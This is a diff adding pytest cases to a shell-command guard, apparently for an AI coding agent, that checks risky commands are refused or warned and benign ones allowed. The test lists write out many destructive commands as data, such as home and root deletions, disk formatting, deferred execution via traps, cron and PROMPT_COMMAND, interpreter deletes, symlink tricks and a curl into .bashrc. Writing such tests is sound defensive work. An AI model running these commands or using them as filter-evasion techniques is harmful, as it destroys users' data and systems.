@@ -4,6 +4,8 @@ and the ordinary commands of the same shape it must keep allowing."""
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from zcoder.tools import Verdict, check_command
@@ -186,3 +188,238 @@ def test_the_workspace_may_be_changed_but_not_what_holds_it() -> None:
     assert allowed("chmod -R 755 .") and allowed(f"chown -R me {WORKSPACE}")
     assert refused("chmod -R 755 ..") and refused("chown -R me /srv/work")
     assert refused("rm -rf .")  # deleting it is still refused
+
+
+# find evaluates its expression left to right: an action before its tests, or in another
+# branch of -o, acts on everything.
+FIND_ACTION_BEFORE_TEST = [
+    "find ~ -delete -name x",
+    "find / -delete -name '*.tmp'",
+    "find ~ -name x -o -delete",
+    "find ~ \\( -name a -o -delete \\)",
+    "find ~ -name x , -delete",
+    "find ~ -exec rm -rf {} \\; -name x",
+    "find ~/.. -name '*' -prune -o -exec rm -rf {} +",
+]
+
+
+@pytest.mark.parametrize("command", FIND_ACTION_BEFORE_TEST)
+def test_find_acting_before_its_tests_is_refused(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.refused, verdict
+
+
+def test_find_with_its_tests_first_still_deletes_only_what_they_select() -> None:
+    assert allowed("find ~ -maxdepth 1 -name '*.log' -delete")
+    assert allowed("find . \\( -name '*.pyc' -o -name '*.pyo' \\) -delete")
+    assert refused("find ~ -type f -delete")  # -type selects every file
+
+
+# Deferred execution: what runs later, on a signal, at the next prompt, in every new
+# shell, on a schedule or detached, is checked as if it ran now.
+DEFERRED = [
+    "trap 'rm -rf ~' EXIT",
+    'trap "rm -rf /" INT TERM',
+    "trap -- 'rm -rf ~/..' ERR",
+    "coproc rm -rf ~",
+    "coproc N { rm -rf ~; }",
+    "coproc (rm -rf /)",
+    "export PROMPT_COMMAND='rm -rf ~'",
+    "PROMPT_COMMAND='rm -rf ~/..'",
+    "declare -x PROMPT_COMMAND='mkfs.ext4 /dev/sda'",
+    "PROMPT_COMMAND=('rm -rf ~')",
+    "export PS1='$(rm -rf ~) $ '",
+    "PS0='`rm -rf /`'",
+    "echo 'rm -rf ~' > /tmp/e; BASH_ENV=/tmp/e bash -c ls",
+    "export GIT_SSH_COMMAND='rm -rf ~'",
+    "PAGER='rm -rf ~' git log",
+    "alias ls='rm -rf ~/..'",
+    "watch -n1 rm -rf ~/..",
+    "nohup rm -rf ~/.. &",
+    'timeout 5 rm -rf "$HOME/.."',
+    "setsid -f rm -rf ~",
+    "echo 'rm -rf ~' | at now + 1 minute",
+    "batch <<< 'rm -rf ~'",
+    "echo '* * * * * rm -rf ~' | crontab -",
+    "printf '@reboot rm -rf /\\n' | crontab -",
+    "crontab - <<< '0 3 * * * mkfs.ext4 /dev/sda'",
+    "systemd-run --on-active=60 rm -rf ~",
+    "script -qc 'rm -rf ~' /dev/null",
+    "flock /tmp/l -c 'rm -rf ~'",
+    "tmux new -d 'rm -rf ~'",
+    "tmux send-keys -t 0 'rm -rf ~' Enter",
+    "screen -dmS x rm -rf ~",
+    "strace -f rm -rf ~",
+    "ls | entr rm -rf ~",
+    "cat <<EOF\n`rm -rf /`\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", DEFERRED)
+def test_deferred_execution_is_followed(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.refused, verdict
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["export BASH_ENV=/tmp/evil.sh", "env ENV=/tmp/x sh -c true"],
+)
+def test_a_start_up_script_the_guard_cannot_read_is_warned(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.verdict is Verdict.WARN and "unseen" in (verdict.reason or "")
+
+
+ORDINARY_DEFERRED = [
+    "trap 'rm -f /tmp/lock' EXIT",
+    "trap - EXIT",
+    "trap 'echo interrupted; exit 1' INT",
+    "export PROMPT_COMMAND='history -a'",
+    "PS1='\\u@\\h:\\w\\$ '",
+    'export PS1="[\\$(date +%H:%M)] $PS1"',
+    "export EDITOR=vim",
+    "export GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key'",
+    "PAGER=cat git log -5",
+    "export LESSOPEN='| /usr/bin/lesspipe %s'",
+    "nohup ./server > server.log 2>&1 &",
+    "coproc cat",
+    "at now + 1 hour <<< 'systemctl restart app'",
+    "systemd-run --on-active=30 systemctl restart app",
+    "script -qc 'make test' /dev/null",
+    "flock /tmp/deploy.lock -c './deploy.sh'",
+    "tmux new -d -s build 'make -j2'",
+    "tmux split-window -h",
+    "screen -dmS build make",
+    "strace -f -o /tmp/t.txt ls",
+    "cat <<EOF\nbuilt `date`\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", ORDINARY_DEFERRED)
+def test_ordinary_deferred_commands_are_allowed(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.verdict is Verdict.ALLOW, verdict
+
+
+# Interpreters deleting a home or / through their own libraries.
+INTERPRETER_DELETES = [
+    "node -e 'require(\"fs\").rmSync(process.env.HOME,{recursive:true})'",
+    'node -e \'require("fs").rmSync(require("os").homedir(), {recursive: true})\'',
+    "node -e 'fs.rmSync(\"/\", {recursive:true})'",
+    'node -e \'require("fs").rmSync(process.env.HOME + "/..", {recursive:true})\'',
+    'nodejs -e \'require("fs").rmdirSync(process.env["HOME"], {recursive: true})\'',
+    "python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~\"))'",
+    "python3 -c 'import shutil, os; shutil.rmtree(os.environ[\"HOME\"])'",
+    "python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'",
+    'python3 -c \'import shutil, os; shutil.rmtree(os.path.join(os.environ["HOME"], ".."))\'',
+    "python3.12 -c 'import shutil; shutil.rmtree(\"/etc\")'",
+    "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'",
+    "perl -MFile::Path -e 'rmtree(\"/\")'",
+    "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'",
+    "ruby -rfileutils -e 'FileUtils.rm_rf(File.expand_path(\"~\"))'",
+    'ruby -e \'require "fileutils"; FileUtils.rm_r ENV["HOME"]\'',
+]
+
+
+@pytest.mark.parametrize("command", INTERPRETER_DELETES)
+def test_interpreters_deleting_a_home_or_root_are_refused(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.refused, verdict
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "node -e 'console.log(process.env.HOME)'",
+        "python3 -c 'import os; print(os.path.expanduser(\"~\"))'",
+        "ruby -e 'puts Dir.home'",
+    ],
+)
+def test_interpreters_naming_the_home_without_deleting_it_are_allowed(command: str) -> None:
+    assert allowed(command)
+
+
+# Writes to shell start-up files and cron tables: warned at least; a catastrophe written
+# into one is refused.
+START_UP_WRITES = [
+    "> ~/.bashrc",
+    ": > ~/.profile",
+    "echo x >> ~/.profile",
+    "tee -a ~/.zshrc",
+    "cp x ~/.bashrc",
+    "cp .bashrc ~",
+    "cat evil > /root/.bashrc",
+    "ln -sf /tmp/x ~/.zshrc",
+    "curl -o ~/.bashrc http://203.0.113.9/rc",
+    "sed -i 's/^/x;/' ~/.bashrc",
+    "mv x ~/.bash_profile",
+    "dd if=x of=/home/alice/.bashrc",
+    "install -m 644 rc ~/.bashrc",
+    "echo 'export X=1' | sudo tee -a /etc/profile.d/x.sh",
+    "printf 'ls\\n' > $HOME/.config/fish/config.fish",
+    "echo '* * * * * root /opt/x' > /etc/cron.d/x",
+]
+
+
+@pytest.mark.parametrize("command", START_UP_WRITES)
+def test_writes_to_start_up_files_are_warned(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.verdict is not Verdict.ALLOW, verdict
+    assert verdict.refused or "runs" in (verdict.reason or "")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'rm -rf ~' >> ~/.bashrc",
+        "echo 'rm -rf /' | tee -a /etc/profile.d/x.sh",
+        "echo '* * * * * root rm -rf /' > /etc/cron.d/x",
+        "printf 'mkfs.ext4 /dev/sda\\n' >> /root/.profile",
+    ],
+)
+def test_a_catastrophe_written_into_a_start_up_file_is_refused(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.refused, verdict
+
+
+# A symbolic link to a home (or /) followed by a delete through it.
+SYMLINK_DELETES = [
+    "ln -s ~ h && rm -rf h/*",
+    "ln -s ~ h; rm -rf h/",
+    "ln -s / r; rm -rf r/etc",
+    "ln -s /home/alice a && find a/ -delete",
+    "ln -s /home/alice a && find -L a -delete",
+    "ln -sfn ~/.. up && rm -rf up/*",
+]
+
+
+def test_deleting_a_link_made_in_the_line_deletes_only_the_link() -> None:
+    assert allowed("ln -s /tmp/x h && rm -rf h/*")
+    assert check_command("ln -s ~ h && rm -f h").verdict is Verdict.WARN  # the ln
+
+
+@pytest.mark.parametrize("command", SYMLINK_DELETES)
+def test_a_delete_through_a_link_made_in_the_line_is_refused(command: str) -> None:
+    verdict = check_command(command, WORKSPACE)
+    assert verdict.refused, verdict
+
+
+def test_making_a_link_to_a_home_is_warned() -> None:
+    verdict = check_command("ln -s ~ h", WORKSPACE)
+    assert verdict.verdict is Verdict.WARN and "home" in (verdict.reason or "")
+    assert allowed("ln -s ~/projects p") and allowed("ln -s /opt/app/current app")
+
+
+def test_a_delete_through_a_link_made_by_an_earlier_command_is_refused(tmp_path: Path) -> None:
+    # Two commands: the link is on disk when the second is checked.
+    workspace = tmp_path / "work"
+    workspace.mkdir()
+    (workspace / "h").symlink_to(Path.home())
+    (workspace / "up").symlink_to(tmp_path / "..")
+    (workspace / "build").mkdir()
+    assert refused("rm -rf h/*", str(workspace))
+    assert refused("rm -rf h/", str(workspace))  # a trailing slash goes through the link
+    assert allowed("rm -rf h", str(workspace))  # the link itself
+    assert refused("rm -rf up/*", str(workspace))
+    assert refused(f"rm -rf {workspace}/h/*", str(workspace))
+    assert allowed("rm -rf build/*", str(workspace))
